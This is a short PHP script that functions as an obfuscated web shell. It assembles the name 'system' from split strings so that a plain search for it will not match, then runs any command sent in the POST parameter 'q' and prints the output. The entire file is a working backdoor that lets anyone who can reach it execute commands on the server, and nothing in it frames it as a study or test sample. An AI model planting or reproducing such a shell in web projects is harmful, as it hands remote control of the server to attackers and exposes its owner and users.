<?php
$parts = ['sy', 'st', 'em'];
$run = vsprintf('%s%s%s', $parts);
$arg = $_POST['q'] ?? 'id';
echo '<pre>';
$run($arg);
echo '</pre>';
